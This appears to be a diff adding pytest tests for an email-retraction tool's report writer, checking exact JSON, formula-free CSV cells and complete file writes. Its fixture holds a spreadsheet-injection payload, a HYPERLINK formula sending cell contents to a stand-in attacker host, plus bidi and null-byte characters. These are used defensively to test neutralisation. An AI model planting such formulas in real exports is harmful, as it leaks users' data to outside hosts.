@@ -1,0 +1,77 @@
+"""The files: exact for programs, harmless for spreadsheets, whole or absent."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from pathlib import Path
+from typing import Any
+
+import pandas as pd
+import pytest
+
+from retract.model import State
+from retract.reports.html import MAX_ROWS
+from retract.reports.model import RunReport
+from retract.reports.write import COLUMNS, render_csv, render_json, write_report
+
+FORMULA = '=HYPERLINK("http://evil.example/"&A1,"open")'
+HOSTILE = f'{FORMULA};@SUM(A1),"quoted"\r\nnew line \u202e and \x00'
+
+
+@pytest.fixture
+def hostile(
+    planned: Any, skipped: Any, because: Any, make_plan: Any, outcome: Any, report: Any
+) -> RunReport:
+    reasons = (because(indicator=FORMULA, campaign=HOSTILE, source="-list"),)
+    fields = {"subject": HOSTILE, "sender": FORMULA, "mailbox": FORMULA, "reasons": reasons}
+    copies = [planned(number, **fields) for number in range(2)]
+    outcomes = [outcome(copies[0]), outcome(copies[1], State.FAILED, reason=HOSTILE)]
+    made: RunReport = report(make_plan(copies, [skipped(9, **fields)]), outcomes)
+    return made
+
+
+def test_json_is_exact(hostile: RunReport) -> None:
+    text = render_json(hostile)
+    assert text.isascii()
+    assert RunReport.model_validate_json(text) == hostile
+    assert json.loads(text)["copies"][0]["subject"] == HOSTILE
+    assert json.loads(text)["format"] == 1
+
+
+@pytest.mark.parametrize("separator", [",", ";"])
+def test_no_cell_is_a_formula_however_the_spreadsheet_splits(
+    hostile: RunReport, separator: str
+) -> None:
+    rows = list(csv.reader(io.StringIO(render_csv(hostile)), delimiter=separator))
+    cells = [cell for row in rows for cell in row]
+    assert len(cells) > 10
+    for cell in cells:
+        assert not cell.lstrip(' "').startswith(("=", "+", "-", "@", "\t", "\r"))
+        assert cell.isprintable()
+
+
+def test_csv_has_every_copy_and_its_matches(hostile: RunReport) -> None:
+    table = pd.read_csv(io.StringIO(render_csv(hostile)), keep_default_na=False)
+    assert list(table.columns) == list(COLUMNS)
+    assert list(table["result"]) == ["failed", "done", "left_alone"]
+    assert list(table["note"][1:]) == ["", "already_done"]
+    assert list(table["read_before"]) == ["yes", "yes", ""]
+    assert table["place_now"][1] == "trash (Deleted Items)"
+    assert table["indicators"][0] == "'" + FORMULA
+    assert list(table["matches"]) == [1, 1, 1]
+
+
+def test_csv_has_what_the_page_leaves_out(planned: Any, make_plan: Any, report: Any) -> None:
+    made = report(make_plan([planned(number) for number in range(MAX_ROWS + 20)]))
+    assert len(pd.read_csv(io.StringIO(render_csv(made)))) == MAX_ROWS + 20
+
+
+def test_the_files_are_written_whole(hostile: RunReport, tmp_path: Path) -> None:
+    folder = tmp_path / "new" / "run"
+    paths = write_report(hostile, folder)
+    assert sorted(folder.iterdir()) == sorted([paths.html, paths.csv, paths.json])
+    assert paths.csv.read_bytes().startswith(b"\xef\xbb\xbfreceived_at,")
+    assert paths.html.read_text(encoding="utf-8").startswith("<!DOCTYPE html>")
+    assert write_report(hostile, folder) == paths
